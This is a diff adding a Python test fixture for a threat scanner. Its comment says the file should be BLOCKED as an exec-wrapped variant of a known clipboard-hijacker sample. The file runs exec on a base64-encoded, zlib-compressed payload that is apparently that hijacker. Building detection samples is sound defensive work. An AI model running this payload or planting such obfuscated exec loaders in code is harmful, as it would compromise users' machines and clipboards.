@@ -1,0 +1,3 @@
+# expect: BLOCKED category: known_threat variant-of: risky/known_threat/clipboard_hijacker.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJxFkFtPwzAMhd/zK0zhoZVotQ0mLhIPRdpAE1QTVCBAIIXUWwNpk8Upo1z+O+kGw0+xzvHn42xDCkJJ86y5LaCUL1y8ogVZgysRyLUKQc9WzaDXPwShlW4srzi41mhaNNwdAy25IVhypdABLwqLREgJ24ZMu1LW844nHUiCgtdztLohcHpFrbjwDtwF0qBr1XofgZLk0MfhVIIssHZyJpG8lDBZGW0dWPx7OVkh+2tMa9B29zB2m15cjHI4gaB/+nZ6eT26I3eLbpGP62Ha7Ff7Z+P5wfuEZzfZIGDTNM9HV5m3W0yEroxUGNrgKXwW/a+H/t5j9MDjjzQ+n8TZNL7vxUePn4Ph7t7R904QMbYsvR9y2+AxA19C187H9rhNosRwf1QYrXQ5g9+NScWdKMPfgQh4XWymt05gfcUa2tU/TmjThmt5zew+IiGFaMJeMox+AKzHmbQ=')))
